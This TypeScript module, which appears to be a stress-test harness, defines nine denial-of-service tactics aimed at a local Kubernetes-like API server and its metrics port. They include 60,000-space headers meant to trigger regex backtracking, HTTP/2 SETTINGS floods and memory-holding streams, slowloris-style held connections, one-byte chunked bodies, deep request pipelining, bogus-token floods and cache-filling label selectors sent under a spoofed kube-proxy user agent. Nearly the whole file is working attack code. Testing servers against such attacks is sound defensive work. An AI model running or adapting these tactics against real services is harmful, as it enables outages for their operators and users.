import { randomBytes } from 'node:crypto'
import { connect as connectHttp2 } from 'node:http2'
import { connect, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { connect as connectTls } from 'node:tls'

/** What an unprivileged user of the node can reach, and the credentials that its pods have. */
export interface Victim {
  readonly plainPort: number
  readonly securePort: number
  readonly opsPort: number
  /** The token of a service account without any right. */
  readonly powerless: string
  /** The token of a service account that may list ConfigMaps in `seed`. */
  readonly lister: string
}

/** Counts what came of one tactic, by a few words. */
export type Count = (what: string) => void

/** One way to do harm. It goes on until `signal` aborts; its rate is bounded by itself. */
export interface Tactic {
  readonly name: string
  attack(victim: Victim, count: Count, signal: AbortSignal): Promise<void>
}

const host = '127.0.0.1'

/** Calls `act` at most `perSecond` times a second, never beside itself more than `atOnce` times. */
async function atRate(
  { perSecond, atOnce }: { readonly perSecond: number; readonly atOnce: number },
  signal: AbortSignal,
  act: () => Promise<void>,
): Promise<void> {
  let under = 0
  while (!signal.aborted) {
    if (under < atOnce) {
      under++
      void act()
        .catch(() => undefined)
        .finally(() => under--)
    }
    await sleep(1000 / perSecond)
  }
}

/** Sends `bytes` on a connection of its own and reads until the other end closes, or for `ms`. */
function exchange(socket: Socket, bytes: string, ms: number, count: Count): Promise<void> {
  const { promise, resolve } = Promise.withResolvers<void>()
  let answered = false
  socket.on('error', () => undefined)
  socket.on('data', (chunk: Buffer) => {
    if (!answered) count(`answered ${chunk.toString('latin1', 9, 12)}`)
    answered = true
  })
  socket.once('close', () => {
    if (!answered) count('closed without an answer')
    resolve()
  })
  socket.write(bytes)
  setTimeout(() => socket.destroy(), ms)
  return promise
}

const plain = (port: number): Socket => connect({ host, port })
const secure = (port: number): Socket =>
  connectTls({ host, port, rejectUnauthorized: false, ALPNProtocols: ['http/1.1'] })

const get = (path: string, head = ''): string =>
  `GET ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\n${head}\r\n`

/** An expression that backtracks over these would take seconds. */
const spaces = `Authorization: x${' '.repeat(60_000)}y\r\nConnection: close\r\n`

const longBlanks: Tactic = {
  name: 'heads of 60,000 spaces',
  attack: ({ plainPort, securePort, opsPort }, count, signal) =>
    atRate({ perSecond: 10, atOnce: 8 }, signal, async () => {
      await exchange(plain(plainPort), get('/api/v1/pods', spaces), 5_000, count)
      await exchange(secure(securePort), get('/api/v1/pods', spaces), 5_000, count)
      await exchange(plain(opsPort), get('/metrics', spaces), 5_000, count)
    }),
}

const scrapes: Tactic = {
  name: 'pipelined scrapes, not read',
  attack: ({ opsPort }, count, signal) =>
    atRate({ perSecond: 10, atOnce: 32 }, signal, async () => {
      const socket = plain(opsPort)
      socket.pause()
      const both = get('/metrics') + get('/inspect/boot') + get('/inspect/host-network')
      await exchange(socket, both.repeat(30), 2_000, count)
    }),
}

/** As many sessions as this are kept, each with as many streams as it is given. */
const sessions = 64
const streamsTried = 200

const heldSessions: Tactic = {
  name: 'HTTP/2 sessions that hold memory',
  attack: ({ securePort }, count, signal) =>
    atRate({ perSecond: 20, atOnce: sessions }, signal, async () => {
      const { promise, resolve } = Promise.withResolvers<void>()
      const session = connectHttp2(`https://${host}:${securePort}`, { rejectUnauthorized: false })
      session.on('error', () => undefined)
      session.on('goaway', () => count('GOAWAY'))
      session.once('close', () => resolve())
      session.once('connect', () => {
        for (let at = 0; at < streamsTried && !session.closed; at++) {
          const stream = session.request(
            { ':method': 'POST', ':path': `/api/v1/pods?n=${at}`, filler: 'x'.repeat(40_000) },
            { endStream: false },
          )
          stream.on('error', () => undefined)
          stream.on('response', (fields) => count(`answered ${fields[':status']}`))
          stream.pause()
          stream.write(Buffer.alloc(64 * 1024))
        }
      })
      setTimeout(() => session.destroy(), 20_000)
      await promise
    }),
}

/** What a client begins HTTP/2 with (RFC 9113 section 3.4): its preface, and empty SETTINGS. */
const begun = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
const settings = '\0\0\0\x04\0\0\0\0\0'

/**
 * Enough that nghttp2 ends the session: it keeps a thousand acknowledgements. Few sessions show
 * whether any of them is kept; what a flood of handshakes costs is no question of this run.
 */
const settingsSent = 4_000
const settingsAtOnce = 400

const unacknowledged: Tactic = {
  name: 'HTTP/2 sessions flooded with SETTINGS, again and again',
  attack: ({ securePort }, count, signal) =>
    atRate({ perSecond: 5, atOnce: 16 }, signal, async () => {
      const { promise, resolve } = Promise.withResolvers<void>()
      const socket = connectTls({
        host,
        port: securePort,
        rejectUnauthorized: false,
        ALPNProtocols: ['h2'],
      })
      socket.on('error', () => undefined).resume()
      socket.once('close', () => {
        count('closed')
        resolve()
      })
      socket.write(begun)
      let left = settingsSent
      const more = (): void => {
        left -= settingsAtOnce
        if (left < 0) socket.destroy()
        else if (!socket.destroyed)
          socket.write(settings.repeat(settingsAtOnce), () => setImmediate(more))
      }
      socket.once('secureConnect', more)
      await promise
    }),
}

/** Three quarters of what a listener takes. */
const heldAtOnce = 3_000

const heldConnections: Tactic = {
  name: 'connections whose answers are not taken',
  attack: ({ plainPort }, count, signal) =>
    atRate({ perSecond: 100, atOnce: heldAtOnce }, signal, async () => {
      const socket = plain(plainPort)
      const filler = `Filler: ${'x'.repeat(30_000)}\r\n`
      socket.once('connect', () => socket.pause())
      const strange = `GET /api HTTP/1.1\r\nHost: ${'h'.repeat(20_000)}.example\r\n\r\n`
      await exchange(socket, get('/api/v1/pods', filler) + strange, 60_000, count)
    }),
}

const bogusTokens: Tactic = {
  name: 'bogus tokens and slow bodies',
  attack: ({ plainPort }, count, signal) =>
    atRate({ perSecond: 40, atOnce: 400 }, signal, async () => {
      const token = `Authorization: Bearer ${randomBytes(24).toString('base64url')}\r\n`
      await exchange(
        plain(plainPort),
        get('/api/v1/pods', `${token}Connection: close\r\n`),
        5_000,
        count,
      )
      const post = `POST /api/v1/namespaces/seed/configmaps HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n${token}\r\n{`
      await exchange(plain(plainPort), post, 10_000, count)
    }),
}

/** As much as one read takes; each of them costs microseconds, and is a buffer of Node's own. */
const tinyChunks = '1\r\na\r\n'.repeat(10_000)

const tinyBodies: Tactic = {
  name: 'bodies in chunks of a byte',
  attack: ({ plainPort }, count, signal) =>
    atRate({ perSecond: 5, atOnce: 32 }, signal, async () => {
      const token = `Authorization: Bearer ${randomBytes(24).toString('base64url')}\r\n`
      const post = `POST /api/v1/namespaces/seed/configmaps HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n${token}\r\n`
      await exchange(plain(plainPort), post + tinyChunks, 10_000, count)
    }),
}

/** Far more than a connection may have ahead of their answers. */
const aheadOfAnswers = get('/api/v1/pods').repeat(5_000)

const pipelined: Tactic = {
  name: 'requests far ahead of their answers',
  attack: ({ plainPort }, count, signal) =>
    atRate({ perSecond: 5, atOnce: 32 }, signal, () =>
      exchange(plain(plainPort), aheadOfAnswers, 10_000, count),
    ),
}

/** As a component whose answers are recorded. */
const asRecorded = (token: string): string =>
  `Authorization: Bearer ${token}\r\nUser-Agent: kube-proxy/v1.36.2\r\nConnection: close\r\n`

const cacheFilling: Tactic = {
  name: 'documents and selectors that fill the cache',
  async attack({ plainPort, powerless, lister }, count, signal) {
    let n = 0
    const ask = (path: string, token: string): Promise<void> =>
      exchange(plain(plainPort), get(path, asRecorded(token)), 10_000, count)
    const documents = atRate({ perSecond: 2, atOnce: 4 }, signal, () =>
      ask(`/openapi/v2?hash=${n++}`, powerless),
    )
    const selectors = atRate({ perSecond: 5, atOnce: 4 }, signal, () => {
      const names = Array.from({ length: 600 }, () => `a${randomBytes(24).toString('hex')}`)
      const selector = encodeURIComponent(`app notin (${names.join(',')})`)
      return ask(`/api/v1/namespaces/seed/configmaps?labelSelector=${selector}`, lister)
    })
    await Promise.all([documents, selectors])
  },
}

export const tactics: readonly Tactic[] = [
  longBlanks,
  scrapes,
  heldSessions,
  unacknowledged,
  heldConnections,
  bogusTokens,
  tinyBodies,
  pipelined,
  cacheFilling,
]
